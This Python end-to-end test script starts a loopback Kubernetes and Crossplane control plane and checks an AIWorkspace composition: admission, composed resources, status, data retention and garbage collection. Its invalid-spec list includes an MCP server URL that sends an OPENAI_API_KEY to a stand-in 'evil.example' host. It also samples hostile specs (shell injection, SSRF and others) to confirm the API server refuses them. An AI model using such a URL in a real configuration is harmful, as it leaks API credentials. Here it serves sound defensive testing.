"""`make e2e`: both API flavours on a real control plane, on loopback.

    python hack/e2e.py [claims|namespaced ...]     # both flavours when none is named

For each flavour, a fresh control plane: etcd, kube-apiserver (token auth, RBAC), kube-controller-manager (the
garbage-collector and namespace controllers only, so deletion works) and core Crossplane out of cluster with the
External package runtime. All are built from the Go module proxy by `hack/tools.sh e2e` (pinned in
hack/versions.env) and stopped by PID at the end. Where it may (root, `unshare`), the whole run lives in a
private network namespace, so nothing listens beyond its own loopback.

The function reaches Crossplane the way a platform installs it: `make package` builds the package, which is
pushed to a loopback OCI registry and installed as a `Function`; the package manager pulls and unpacks it. The
External runtime then waits for someone to serve it, which this script does: the function runs locally with a
server certificate signed by Crossplane's own root CA, and the FunctionRevision's status is told its TLS Secret
and endpoint, as a runtime controller would. (A hand-made FunctionRevision would also work, with no registry,
but would not prove that the package installs.)

What it proves, per flavour, with one line per check:
  - the XRD is Established (and Offered, for claims) on the real API server;
  - every example is admitted with the team's Secrets and reaches Synced=True, and the composed resources in
    the API server are those of the converged render (same kinds and composition resource names): what a
    control plane without providers composes, since nothing here reports readiness or connection details;
  - the XR (and the claim) status carries the chat URL and components;
  - invalid specs are refused by the API server with the field named;
  - a spec change that drops a data volume keeps it (DataRetained);
  - deleting a workspace removes it, its composed resources are garbage-collected, and every data volume it
    held was protected at that moment (deletionPolicy Orphan, or management policies without Delete).
No provider runs here: managed resources are created but never become Ready, so no workspace becomes Ready.
"""

from __future__ import annotations

import copy
import json
import os
import shutil
import signal
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import yaml

sys.path.insert(0, str(Path(__file__).resolve().parent))
sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

import fixture
import scenarios
import xp
from fixture import (
    FLAVOURS,
    FUNCTION,
    ROOT,
    TIMEOUT,
    XR_RESOURCE,
    XRD_NAMES,
    ControlPlane,
    E2EError,
    E2ETools,
    _condition,
    _condition_message,
    _group_kind,
    e2e_tools,
    install_configuration,
    install_function,
    log,
    provider_crds,
    say,
    start_provider_kubernetes,
    start_registry,
    wait_for,
)

from tests import hostile


@dataclass
class Example:
    path: Path
    flavour: str
    xr: dict[str, Any]
    created: dict[str, Any]  # what the team applies: the XR, or the claim
    team_secrets: list[dict[str, Any]]
    expected: list[dict[str, Any]]  # the converged render's composed resources

    @property
    def name(self) -> str:
        return self.path.name

    @property
    def namespace(self) -> str:
        return str(self.created["metadata"]["namespace"])


def load_examples(flavour: str, only: list[str]) -> list[Example]:
    examples = []
    paths = sorted(p for p in xp.EXAMPLES.iterdir() if (p / "xr.yaml").exists() and xp.flavour_of(p) == flavour)
    tool = xp.tools()
    with xp.function_server() as address, tempfile.TemporaryDirectory() as tmp:
        for path in paths:
            if only and path.name not in only:
                continue
            xr = yaml.safe_load((path / "xr.yaml").read_text())
            created = yaml.safe_load((path / "claim.yaml").read_text()) if flavour == "claims" else xr
            required = path / "required-resources.yaml"
            given = [doc for doc in yaml.safe_load_all(required.read_text()) if doc] if required.exists() else []
            # The team's own Secrets; the connection Secrets in the example stand for what providers would
            # publish, and no provider runs here.
            golden = [doc for doc in yaml.safe_load_all((ROOT / "tests" / "golden" / f"{path.name}.yaml").read_text())]
            published = {
                (ref.get("namespace", xr["metadata"].get("namespace")), ref["name"])
                for doc in golden[1:]
                if doc and (ref := (doc.get("spec") or {}).get("writeConnectionSecretToRef"))
            }
            team = [
                doc
                for doc in given
                if doc.get("kind") == "Secret"
                and (doc["metadata"].get("namespace"), doc["metadata"]["name"]) not in published
            ]
            team_file = Path(tmp) / f"{path.name}-team.yaml"
            team_file.write_text(yaml.safe_dump_all(team) if team else "")
            stream = xp.converge(path, address, tool=tool, observed=None, required=team_file if team else None)
            expected = [doc for doc in list(yaml.safe_load_all(stream))[1:] if doc]
            # Every example names the same workspace (team-a/chat); each gets a namespace of its own here, so
            # one example's workspace is not another's update.
            namespace = f"e2e-{path.name}"[:63]
            # What the team names after its namespace (an Azure resource group of the team's own, which the default
            # tenancy allows as {namespace}; a Service of its namespace) follows it there.
            own = created["metadata"].get("namespace", "team-a")
            created = _renamespaced(copy.deepcopy(created), own, namespace)
            created["metadata"]["namespace"] = namespace
            xr = _renamespaced(copy.deepcopy(xr), own, namespace)
            xr["metadata"]["namespace"] = namespace
            team = [{**doc, "metadata": {**doc["metadata"], "namespace": namespace}} for doc in team]
            examples.append(Example(path, flavour, xr, created, team, expected))
    return examples


def _renamespaced(doc: dict[str, Any], old: str, new: str) -> dict[str, Any]:
    """`doc` with every string of its spec that is exactly the namespace `old`, or names a Service of it
    (<service>.<old>.svc), moved to `new`."""

    def walk(node: Any) -> Any:
        if isinstance(node, dict):
            return {k: walk(v) for k, v in node.items()}
        if isinstance(node, list):
            return [walk(v) for v in node]
        if node == old:
            return new
        return node.replace(f".{old}.svc", f".{new}.svc") if isinstance(node, str) else node

    return {**doc, "spec": walk(doc.get("spec", {}))}


# The checks --------------------------------------------------------------------------------------------------------


@dataclass
class Run:
    cp: ControlPlane
    flavour: str
    failures: list[str] = field(default_factory=list)

    def check(self, label: str, body: Callable[[], str]) -> None:
        try:
            detail = body()
        except E2EError as error:
            self.failures.append(f"{self.flavour} {label}: {error}")
            say(f"FAIL {self.flavour:<10} {label}: {str(error).splitlines()[0]}")
            return
        say(f"ok   {self.flavour:<10} {label}{': ' + detail if detail else ''}")

    def xr_of(self, example: Example) -> dict[str, Any] | None:
        if self.flavour == "namespaced":
            return self.cp.get(XR_RESOURCE[self.flavour], "-n", example.namespace, example.xr["metadata"]["name"])
        claim = self.cp.get("aiworkspaces.aiworkspace.io", "-n", example.namespace, example.created["metadata"]["name"])
        ref = ((claim or {}).get("spec") or {}).get("resourceRef")
        return self.cp.get(XR_RESOURCE[self.flavour], ref["name"]) if ref else None

    def claim_of(self, example: Example) -> dict[str, Any] | None:
        return self.cp.get("aiworkspaces.aiworkspace.io", "-n", example.namespace, example.created["metadata"]["name"])

    def composed(self, xr: dict[str, Any]) -> list[dict[str, Any]]:
        """The composed resources the XR references, as the API server holds them."""
        out = []
        for ref in (
            (xr.get("spec") or {}).get("crossplane", {}).get("resourceRefs")
            or (xr.get("spec") or {}).get("resourceRefs")
            or []
        ):
            group = ref["apiVersion"].split("/")[0] if "/" in ref["apiVersion"] else ""
            resource = f"{ref['kind'].lower()}.{group}" if group else ref["kind"].lower()
            args = [resource, ref["name"]]
            namespace = ref.get("namespace") or (
                xr["metadata"].get("namespace") if self.flavour == "namespaced" else None
            )
            if namespace:
                args += ["-n", namespace]
            obj = self.cp.get(*args)
            if obj:
                out.append(obj)
        return out


def _identity(doc: dict[str, Any]) -> tuple[str, str, str]:
    """(group, kind, composition resource name): the API server answers with its preferred version, which
    may differ from the one composed (storage.gcp.m.upbound.io serves Bucket as v1beta1 and v1beta2)."""
    group = str(doc["apiVersion"]).rpartition("/")[0]
    return (group, doc["kind"], str(doc["metadata"].get("annotations", {}).get(xp.RESOURCE_NAME, "")))


def example_checks(run: Run, example: Example) -> list[tuple[str, Callable[[], str]]]:
    """The checks of one example, in order. run_flavour runs each phase for every example before the next,
    so all workspaces converge at once instead of one after the other."""
    cp = run.cp
    label = example.name
    steps: list[tuple[str, Callable[[], str]]] = []

    def admitted() -> str:
        cp.kubectl("create", "namespace", example.namespace, check=False)
        if example.team_secrets:
            cp.apply(example.team_secrets)
        cp.apply([example.created])
        return f"{len(example.team_secrets)} Secret(s) and the {example.created['kind']}"

    steps.append((f"{label}: admitted", admitted))

    def synced() -> str:
        def ready() -> dict[str, Any] | None:
            cp.alive(cp.crossplane)
            xr = run.xr_of(example)
            return xr if xr and _condition(xr, "Synced") == "True" else None

        try:
            xr = wait_for(f"{label} Synced=True", ready)
        except E2EError as error:
            xr = run.xr_of(example)
            raise E2EError(f"{error}; Synced: {_condition_message(xr, 'Synced') if xr else 'no XR'}") from None
        return f"Synced=True, Ready={_condition(xr, 'Ready')} (provider-helm and the cloud providers do not run here)"

    steps.append((f"{label}: Synced", synced))

    def composed() -> str:
        want = sorted(_identity(doc) for doc in example.expected)
        have: list[tuple[str, str, str]] = []

        def same() -> bool:
            nonlocal have
            xr = run.xr_of(example) or {}
            have = sorted(_identity(doc) for doc in run.composed(xr))
            return have == want

        try:
            wait_for("the composed resources", same, timeout=TIMEOUT)
        except E2EError:
            missing, extra = sorted(set(want) - set(have)), sorted(set(have) - set(want))
            raise E2EError(f"API server differs from the converged render: missing {missing}, extra {extra}") from None
        kinds = len({(a, k) for a, k, _ in want})
        return f"{len(want)} resources of {kinds} kinds, as the converged render"

    steps.append((f"{label}: composed", composed))

    def status() -> str:
        def filled() -> dict[str, Any] | None:
            xr = run.xr_of(example) or {}
            status = xr.get("status") or {}
            return xr if status.get("chatUrl") and status.get("components") else None

        xr = wait_for("status.chatUrl and status.components", filled)
        status = xr["status"]
        if run.flavour == "claims":
            claim = wait_for(
                "the claim's status",
                lambda: (c := run.claim_of(example)) and (c.get("status") or {}).get("chatUrl") and c,
            )
            if claim["status"].get("chatUrl") != status["chatUrl"]:
                raise E2EError(f"claim chatUrl {claim['status'].get('chatUrl')} != XR {status['chatUrl']}")
        return f"{status['chatUrl']}, {status.get('readyComponents')} components ready"

    steps.append((f"{label}: status", status))

    def workloads() -> str:
        """provider-kubernetes applies every Object's manifest to the API server, which validates it for real."""
        objects: list[dict[str, Any]] = []

        def synced() -> bool:
            nonlocal objects
            if cp.provider_kubernetes:
                cp.alive(cp.provider_kubernetes)
            xr = run.xr_of(example) or {}
            objects = [d for d in run.composed(xr) if d["kind"] == "Object"]
            return bool(objects) and all(_condition(o, "Synced") == "True" for o in objects)

        try:
            wait_for("every Object Synced by provider-kubernetes", synced)
        except E2EError as error:
            failing = [
                f"{_identity(o)[2]}: {_condition_message(o, 'Synced')}"
                for o in objects
                if _condition(o, "Synced") != "True"
            ]
            raise E2EError(f"{error}; not applied: {failing[:3]}") from None
        kinds: dict[str, int] = {}
        for obj in objects:
            manifest = obj["spec"]["forProvider"]["manifest"]
            meta = manifest["metadata"]
            if cp.get(manifest["kind"].lower(), meta["name"], "-n", meta.get("namespace", example.namespace)) is None:
                raise E2EError(
                    f"{manifest['kind']} {meta['name']} is not in the API server though its Object is Synced"
                )
            kinds[manifest["kind"]] = kinds.get(manifest["kind"], 0) + 1
        deployments = [o for o in objects if o["spec"]["forProvider"]["manifest"]["kind"] == "Deployment"]
        unready = sum(1 for o in deployments if _condition(o, "Ready") != "True")
        made = ", ".join(f"{n} {k}" for k, n in sorted(kinds.items()))
        return f"{made} created; {unready}/{len(deployments)} Deployments not Available (no kubelet runs pods here)"

    if cp.provider_kubernetes:
        steps.append((f"{label}: workloads", workloads))
    return steps


def xr_manifest(name: str, namespace: str, spec: dict[str, Any]) -> dict[str, Any]:
    """What a team writes: an AIWorkspace (the XR in the namespaced flavour, the claim in the claims flavour)."""
    return {
        "apiVersion": "aiworkspace.io/v1alpha1",
        "kind": "AIWorkspace",
        "metadata": {"name": name, "namespace": namespace},
        "spec": spec,
    }


INVALID = [
    ({"openai": {"enabled": True}}, "spec.openai.apiKeySecretRef"),
    ({"librechat": {"replicas": 2}}, "spec.librechat.replicas"),
    ({"librechat": {"ingress": {"tls": {"clusterIssuer": "a", "issuer": "b"}}}}, "spec.librechat.ingress.tls"),
    ({"librechat": {"stt": {"implementation": "speaches"}}}, "spec.librechat.stt.implementation"),
    ({"database": {"provider": "aws"}}, "spec.database"),
    ({"librechat": {"storage": {"size": "ten gigs"}}}, "spec.librechat.storage.size"),
    (
        {"librechat": {"mcpServers": [{"name": "evil", "url": "https://evil.example/?k=${OPENAI_API_KEY}"}]}},
        "spec.librechat.mcpServers[0].url",
    ),
]
# A sample of the hostile corpus (tests/hostile.py) that admission can refuse: one case of each class of harm,
# sent to the real API server.
HOSTILE_SAMPLE = [
    case
    for harm in ("helm template injection", "shell injection", "kubelet expansion", "argv option",
                 "librechat placeholder", "ssrf", "tenancy", "exhaustion", "collision", "invalid object")
    for case in [next(c for c in hostile.CORPUS if c.harm == harm and c.admission)]
]  # fmt: skip


def check_invalid(run: Run) -> None:
    def refused() -> str:
        run.cp.kubectl("create", "namespace", "e2e-invalid", check=False)
        for extra, field_name in INVALID:
            spec = {"librechat": {"domain": "chat.invalid.example.com"}}
            for key, value in extra.items():
                spec[key] = {**spec.get(key, {}), **value}
            manifest = xr_manifest("invalid", "e2e-invalid", spec)
            proc = run.cp.kubectl("apply", "--dry-run=server", "-f", "-", stdin=yaml.safe_dump(manifest), check=False)
            if proc.returncode == 0:
                raise E2EError(f"admitted: {json.dumps(extra)}")
            if field_name not in proc.stderr:
                raise E2EError(f"refused without naming {field_name}: {proc.stderr.strip()}")
        return f"{len(INVALID)} specs refused by the API server, each naming its field"

    def hostile_refused() -> str:
        run.cp.kubectl("create", "namespace", "e2e-hostile", check=False)
        for case in HOSTILE_SAMPLE:
            manifest = xr_manifest(case.name, "e2e-hostile", case.full_spec())
            proc = run.cp.kubectl("apply", "--dry-run=server", "-f", "-", stdin=yaml.safe_dump(manifest), check=False)
            if proc.returncode == 0:
                raise E2EError(f"admitted ({case.harm}): {case.reason}")
            if case.field not in proc.stderr:
                raise E2EError(f"refused without naming {case.field} ({case.harm}): {proc.stderr.strip()}")
        harms = ", ".join(case.harm for case in HOSTILE_SAMPLE)
        return f"{len(HOSTILE_SAMPLE)} hostile specs refused by the API server, each naming its field ({harms})"

    run.check("invalid specs", refused)
    run.check("hostile specs", hostile_refused)


def _protected(doc: dict[str, Any]) -> bool:
    spec = doc.get("spec") or {}
    if spec.get("deletionPolicy") == "Orphan":
        return True
    policies = spec.get("managementPolicies")
    return policies is not None and "Delete" not in policies and "*" not in policies


def _data_volumes(docs: list[dict[str, Any]]) -> list[dict[str, Any]]:
    return [
        doc
        for doc in docs
        if doc["kind"] == "Object"
        and ((doc.get("spec") or {}).get("forProvider") or {}).get("manifest", {}).get("kind")
        == "PersistentVolumeClaim"
    ]


def check_lifecycle(run: Run) -> None:
    """A data volume outlives a spec change that drops it; deletion leaves protected data behind."""
    cp = run.cp
    namespace, name = "e2e-lifecycle", "keep"
    cp.kubectl("create", "namespace", namespace, check=False)
    spec = {"librechat": {"domain": "keep.example.com"}, "speaches": {"enabled": True}}
    example = Example(
        path=Path(name),
        flavour=run.flavour,
        xr={"metadata": {"name": name, "namespace": namespace}},
        created=xr_manifest(name, namespace, spec),
        team_secrets=[],
        expected=[],
    )

    def volume_kept() -> str:
        cp.apply([example.created])

        def volume() -> dict[str, Any] | None:
            xr = run.xr_of(example)
            return (
                next((d for d in _data_volumes(run.composed(xr)) if "speaches" in _identity(d)[2]), None)
                if xr
                else None
            )

        before = wait_for("the Speaches model volume", volume)
        changed = copy.deepcopy(example.created)
        changed["spec"]["speaches"]["enabled"] = False
        cp.apply([changed])

        def retained() -> str | None:
            events = cp.get("events", "-n", namespace) or {}
            for event in events.get("items") or []:
                if event.get("reason") == "DataRetained":
                    return str(event.get("message"))
            return None

        message = wait_for("a DataRetained event", retained)
        xr = run.xr_of(example) or {}
        still = [d for d in run.composed(xr) if _identity(d) == _identity(before)]
        if not still:
            raise E2EError("the Speaches model volume left the workspace after speaches.enabled: false")
        return message.split(";")[0]

    run.check("spec change keeps data", volume_kept)

    def deleted() -> str:
        xr = run.xr_of(example) or {}
        composed = run.composed(xr)
        volumes = _data_volumes(composed)
        if not volumes:
            raise E2EError("the workspace composed no data volume to protect")
        unprotected = [_identity(v)[2] for v in volumes if not _protected(v)]
        if unprotected:
            raise E2EError(f"data volumes that deletion would destroy: {unprotected}")
        cp.kubectl("delete", "aiworkspaces.aiworkspace.io", "-n", namespace, name, "--wait=false")
        wait_for("the workspace to be gone", lambda: run.claim_of(example) is None and run.xr_of(example) is None)

        def collected() -> bool:
            return all(
                cp.get(
                    f"{d['kind'].lower()}.{d['apiVersion'].split('/')[0]}" if "/" in d["apiVersion"] else d["kind"],
                    d["metadata"]["name"],
                    *(["-n", d["metadata"]["namespace"]] if d["metadata"].get("namespace") else []),
                )
                is None
                for d in composed
            )

        wait_for("the garbage collector to remove the composed resources", collected)
        if not cp.provider_kubernetes:
            return f"{len(volumes)} data volumes protected, {len(composed)} resources collected"
        claims = [v["spec"]["forProvider"]["manifest"]["metadata"]["name"] for v in volumes]
        left = [
            c
            for c in claims
            if (pvc := cp.get("persistentvolumeclaim", c, "-n", namespace)) is not None
            and not pvc["metadata"].get("deletionTimestamp")
        ]
        if left != claims:
            raise E2EError(f"data volumes deleted with the workspace: {sorted(set(claims) - set(left))}")
        gone = [
            o["spec"]["forProvider"]["manifest"]
            for o in composed
            if o["kind"] == "Object" and o["spec"]["forProvider"]["manifest"]["kind"] == "Deployment"
        ]
        still = [m["metadata"]["name"] for m in gone if cp.get("deployment", m["metadata"]["name"], "-n", namespace)]
        if still:
            raise E2EError(f"Deployments left behind after deletion: {still}")
        return (
            f"{len(composed)} resources collected; the PersistentVolumeClaims {', '.join(left)} are still there "
            f"(orphaned by provider-kubernetes), the {len(gone)} Deployments are gone"
        )

    run.check("deletion", deleted)

    def deleted_with_data() -> str:
        """dataDeletionPolicy: Delete lets the data go with the workspace."""
        if not cp.provider_kubernetes:
            return "skipped: needs provider-kubernetes"
        drop = Example(
            path=Path("drop"),
            flavour=run.flavour,
            xr={"metadata": {"name": "drop", "namespace": namespace}},
            created=xr_manifest(
                "drop",
                namespace,
                {"librechat": {"domain": "drop.example.com"}, "dataDeletionPolicy": "Delete"},
            ),
            team_secrets=[],
            expected=[],
        )
        cp.apply([drop.created])

        def created() -> list[str] | None:
            xr = run.xr_of(drop)
            volumes = _data_volumes(run.composed(xr)) if xr else []
            claims = [v["spec"]["forProvider"]["manifest"]["metadata"]["name"] for v in volumes]
            exist = [c for c in claims if cp.get("persistentvolumeclaim", c, "-n", namespace) is not None]
            return claims if claims and exist == claims else None

        claims = wait_for("the workspace's PersistentVolumeClaims", created)
        cp.kubectl("delete", "aiworkspaces.aiworkspace.io", "-n", namespace, "drop", "--wait=false")

        def gone() -> bool:
            # provider-kubernetes deletes a PVC; without a controller to release it, it keeps its
            # kubernetes.io/pvc-protection finalizer, so "deleted" means marked for deletion.
            for claim in claims:
                pvc = cp.get("persistentvolumeclaim", claim, "-n", namespace)
                if pvc is not None and not pvc["metadata"].get("deletionTimestamp"):
                    return False
            return True

        wait_for("the PersistentVolumeClaims to be deleted", gone)
        return f"the PersistentVolumeClaims {', '.join(claims)} are deleted with the workspace"

    run.check("deletion with dataDeletionPolicy: Delete", deleted_with_data)


def run_scenarios(tools: E2ETools, flavour: str, only: list[str]) -> list[str]:
    """The flavour's scenarios (hack/scenarios.py, e2e/scenarios/) run by Chainsaw against the fixture; one line
    per scenario, its failures with what Chainsaw said."""
    why_not = fixture.Node.possible()
    if why_not and os.environ.get("CI"):
        return [f"{flavour} node: {why_not}"]
    if why_not:
        log(f"no node ({why_not}): pods are not run")
    failures: list[str] = []
    try:
        with (
            fixture.Fixture.up(flavour, scenarios.kinds(flavour), node=not why_not, tools=tools) as fx,
            tempfile.TemporaryDirectory(prefix="aiworkspace-scenarios-") as tmp,
        ):
            tests = Path(tmp) / "tests"
            names = scenarios.write(flavour, tests, node=fx.node is not None, only=only)
            failures = chainsaw(fx, tests, Path(tmp), names)
            if failures and (os.environ.get("E2E_LOGS") or os.environ.get("CI")):
                log(fx.logs())
    except E2EError as error:
        say(f"FAIL {flavour:<10} {str(error).splitlines()[0]}")
        failures.append(f"{flavour}: {error}")
    return failures


def chainsaw(fx: fixture.Fixture, tests: Path, tmp: Path, names: list[str]) -> list[str]:
    """Run the scenarios; say one line per scenario from Chainsaw's report."""
    flavour = fx.flavour
    started = time.monotonic()
    proc = subprocess.run(
        [
            fx.cp.tools.chainsaw,
            "test",
            "--test-dir",
            str(tests),
            "--config",
            str(ROOT / "e2e" / "chainsaw.yaml"),
            "--values",
            str(tests / "values.yaml"),
            "--report-format",
            "JSON",
            "--report-path",
            str(tmp),
            "--report-name",
            "report",
            "--no-color",
        ],
        env={**os.environ, "KUBECONFIG": str(fx.cp.kubeconfig)},
        capture_output=True,
        text=True,
        timeout=3600,
        check=False,
    )
    report_file = tmp / "report.json"
    if not report_file.exists():
        return [f"{flavour} chainsaw: no report ({proc.returncode}):\n{proc.stdout[-4000:]}{proc.stderr[-2000:]}"]
    report = json.loads(report_file.read_text())
    failures = []
    seen = set()
    for test in report.get("tests") or []:
        name = str(test.get("name", "")).rsplit("/", 1)[-1]
        seen.add(name)
        failed = [
            f"{step.get('name')}: {operation.get('failure', {}).get('message') or operation.get('failure')}"
            for step in test.get("steps") or []
            for operation in step.get("operations") or []
            if operation.get("failure")
        ]
        duration = test.get("duration") or ""
        if failed or test.get("failure"):
            failures.append(f"{flavour} {name}: {'; '.join(failed) or test.get('failure')}")
            say(f"FAIL {flavour:<10} {name}: {(failed or [str(test.get('failure'))])[0].splitlines()[0][:300]}")
        else:
            steps = [str(step.get("name")) for step in test.get("steps") or []]
            say(f"ok   {flavour:<10} {name} ({len(steps)} steps{', ' + duration if duration else ''})")
    for name in sorted(set(names) - {n.rsplit("/", 1)[-1] for n in seen}):
        failures.append(f"{flavour} {name}: not run by chainsaw")
        say(f"FAIL {flavour:<10} {name}: not run by chainsaw")
    if proc.returncode != 0 and not failures:
        failures.append(f"{flavour} chainsaw exited {proc.returncode}:\n{proc.stdout[-3000:]}")
    log(f"{flavour}: chainsaw ran {len(seen)} scenarios in {time.monotonic() - started:.0f}s")
    return failures


def run_flavour(tools: E2ETools, flavour: str, only: list[str]) -> list[str]:
    examples = load_examples(flavour, only)
    kinds = {_group_kind(doc) for example in examples for doc in example.expected}
    # Kinds provider-kubernetes applies that only a CRD defines (ServiceMonitor, PrometheusRule): installed as the
    # cluster's Prometheus Operator would have them.
    inner = {
        _group_kind(d["spec"]["forProvider"]["manifest"]) for e in examples for d in e.expected if d["kind"] == "Object"
    }
    kinds |= {(group, kind) for group, kind in inner if "." in group and not group.endswith(".k8s.io")}
    with tempfile.TemporaryDirectory(prefix=f"aiworkspace-e2e-{flavour}-") as tmp:
        cp = ControlPlane(tools, Path(tmp))
        run = Run(cp, flavour)
        try:
            started = time.monotonic()
            cp.up()
            say(
                f"ok   {flavour:<10} control plane up in {time.monotonic() - started:.0f}s "
                "(etcd, kube-apiserver, kube-controller-manager, core Crossplane)"
            )
            registry = start_registry(cp)
            install_function(cp, registry)
            say(f"ok   {flavour:<10} Function {FUNCTION} installed from the loopback registry, Healthy")
            cp.apply(
                provider_crds(
                    kinds | {("kubernetes.crossplane.io", "Object")}
                    if flavour == "claims"
                    else kinds | {("kubernetes.m.crossplane.io", "Object")}
                ),
                server_side=True,
            )
            start_provider_kubernetes(cp, flavour)
            say(f"ok   {flavour:<10} provider-kubernetes running against this API server")
            cp.apply((ROOT / "apis" / "rbac" / "composed-kinds.yaml").read_text())
            cp.apply((xp.EXAMPLES / "function-credentials.yaml").read_text())

            def established() -> str:
                configuration = install_configuration(cp, registry, flavour)

                def check() -> dict[str, Any] | None:
                    cp.alive(cp.crossplane)
                    xrd = cp.get("xrd", XRD_NAMES[flavour])
                    wanted = ["Established"] + (["Offered"] if flavour == "claims" else [])
                    return xrd if xrd and all(_condition(xrd, c) == "True" for c in wanted) else None

                try:
                    wait_for(f"XRD {XRD_NAMES[flavour]} Established", check)
                except E2EError as error:
                    xrd = cp.get("xrd", XRD_NAMES[flavour]) or {}
                    raise E2EError(f"{error}: {_condition_message(xrd, 'Established')}") from None
                if not cp.get("composition", f"aiworkspace-{flavour}"):
                    raise E2EError(f"Configuration {configuration} installed no Composition aiworkspace-{flavour}")
                return f"installed by Configuration {configuration}, Established" + (
                    " and Offered" if flavour == "claims" else ""
                )

            run.check(f"XRD {XRD_NAMES[flavour]}", established)
            if run.failures:
                return run.failures
            phases = [example_checks(run, example) for example in examples]
            for phase in range(max((len(steps) for steps in phases), default=0)):
                for steps in phases:
                    if phase < len(steps):
                        run.check(*steps[phase])
            check_invalid(run)
            check_lifecycle(run)
        except E2EError as error:
            run.failures.append(f"{flavour}: {error}")
            say(f"FAIL {flavour:<10} {str(error).splitlines()[0]}")
            if os.environ.get("E2E_LOGS") or os.environ.get("CI"):
                for process in cp.processes:
                    log(f"--- {process.name} ---\n{process.tail(15)}")
        finally:
            cp.stop()
    return run.failures


def in_private_network() -> None:
    """Re-run this script in a network namespace of its own, when the machine allows it."""
    if os.environ.get("E2E_NETNS") or os.environ.get("E2E_NO_NETNS"):
        return
    if os.geteuid() != 0 or not shutil.which("unshare"):
        log("no private network namespace (needs root and unshare): running on the host's loopback")
        return
    probe = subprocess.run(["unshare", "--net", "true"], capture_output=True, check=False)
    if probe.returncode != 0:
        log("unshare --net is not permitted here: running on the host's loopback")
        return
    script = "ip link set lo up && exec " + " ".join(
        [f"'{sys.executable}'", f"'{Path(__file__).resolve()}'", *(f"'{arg}'" for arg in sys.argv[1:])]
    )
    os.environ["E2E_NETNS"] = "1"
    os.execvp("unshare", ["unshare", "--net", "sh", "-c", script])


def main(argv: list[str]) -> int:
    # A terminated run still stops its control plane (the finally blocks run on SystemExit).
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(143))
    flavours = [a for a in argv if a in FLAVOURS] or list(FLAVOURS)
    only = [a for a in argv if a not in FLAVOURS]
    try:
        tools = e2e_tools()
    except E2EError as error:
        say(f"FAIL control plane: {error}")
        return 1
    try:
        xp.crd_source()  # fetches the provider packages, if it must, before the network is left behind
    except xp.MissingCRDsError as error:
        say(f"FAIL provider CRDs: {error}")
        return 1
    in_private_network()
    failures: list[str] = []
    for flavour in flavours:
        # E2E_LEGACY=1 runs the checks written in Python before the scenarios, once, to compare them.
        failures += (run_flavour if os.environ.get("E2E_LEGACY") else run_scenarios)(tools, flavour, only)
    if failures:
        say(f"e2e: {len(failures)} failure(s)")
        for failure in failures:
            log(failure)
        return 1
    say(f"e2e: passed ({', '.join(flavours)})")
    return 0


if __name__ == "__main__":
    raise SystemExit(main(sys.argv[1:]))
